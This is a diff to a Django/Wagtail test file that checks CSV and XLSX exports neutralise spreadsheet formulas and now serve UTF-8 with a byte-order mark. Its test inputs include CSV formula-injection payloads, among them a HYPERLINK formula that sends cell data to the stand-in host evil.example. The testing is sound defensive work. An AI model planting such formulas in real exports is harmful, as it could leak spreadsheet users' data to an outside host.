@@ -1,7 +1,8 @@
 """Every CSV and XLSX export neutralises cells that would run as spreadsheet formulas: the
 dashboard's CSV, the library's admin reports and Wagtail's own, and any export view the
-admin serves (checked by walking its URLs)."""
+admin serves (checked by walking its URLs). Every CSV is UTF-8 with its byte-order mark."""
 
+import codecs
 import csv
 import datetime
 import io
@@ -13,7 +14,7 @@ from wagtail.admin.views.mixins import SpreadsheetExportMixin
 
 from accounts.roles import ADMIN, ENABLEMENT_LEAD, REP
 from analytics.models import AssetFeedback
-from cms.exports import FORMULA_STARTS, spreadsheet_safe
+from cms.exports import CSV_CONTENT_TYPE, FORMULA_STARTS, spreadsheet_safe
 from cms.models import BuyerStage
 from tests.factories import make_asset, make_document, make_user
 
@@ -25,7 +26,10 @@ EVIL = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\t
 def _cells(response, export_format: str) -> list:
     content = b"".join(response.streaming_content) if response.streaming else response.content
     if export_format == "csv":
-        return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]
+        assert response["Content-Type"] == CSV_CONTENT_TYPE
+        assert content.startswith(codecs.BOM_UTF8), content[:20]
+        text = content.decode("utf-8").removeprefix("\ufeff")
+        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
     from openpyxl import load_workbook
 
     sheet = load_workbook(io.BytesIO(content)).active
@@ -116,3 +120,45 @@ def test_every_export_view_the_admin_serves_neutralises_formulas():
     for view_class in views:
         cell = view_class.preprocess_field_value(view_class(), "field", EVIL[0], "csv")
         assert cell == "'" + EVIL[0], view_class
+        # and its CSV is UTF-8 with the mark (``cms.exports.admin_csv_as_utf8``)
+        assert view_class.stream_csv is SpreadsheetExportMixin.stream_csv, view_class
+        assert getattr(view_class.write_csv_response, "as_utf8", False), view_class
+
+
+UNICODE = "Ünïcödé"
+
+
+def test_every_csv_download_is_utf8_with_the_mark_excel_needs_and_stays_formula_safe():
+    """Wagtail's admin exports (the library's reports and Wagtail's own) were bare
+    ``text/csv`` with no byte-order mark, so Excel opened "Ünïcödé" as "ÃœnÃ¯cÃ¶dÃ©"; every
+    CSV the project serves is now sent as the dashboard's are, formula cells still inert."""
+    from analytics.models import Deal
+    from tests.analytics.helpers import refresh
+
+    admin = make_user(role=ADMIN, is_superuser=True)
+    asset = make_asset(UNICODE, review_by=datetime.date(2020, 1, 1))
+    make_asset("=" + UNICODE, review_by=datetime.date(2020, 1, 1))
+    asset.locked, asset.locked_by = True, admin
+    asset.save()
+    Deal.objects.create(
+        external_id="006U", name=UNICODE, stage="Closed Won", close_date=datetime.date(2024, 5, 1)
+    )
+    refresh()
+    client = Client()
+    client.force_login(admin)
+    lead = Client()
+    lead.force_login(make_user(role=ENABLEMENT_LEAD))
+    raw = "/analytics/export/?what=deals&start=2024-01-01&end=2024-12-31&format=csv"
+    downloads = [
+        (client, "/admin/governance/needs-review/?export=csv"),
+        (client, "/admin/reports/locked/?export=csv"),
+        (lead, "/analytics/assets.csv?window=all"),
+        (lead, raw),
+    ]
+    for who, url in downloads:
+        response = who.get(url)
+        assert response.status_code == 200, url
+        cells = _cells(response, "csv")
+        assert UNICODE in cells, (url, cells)
+        if "locked" not in url and "export/" not in url:
+            assert "'=" + UNICODE in cells, (url, cells)
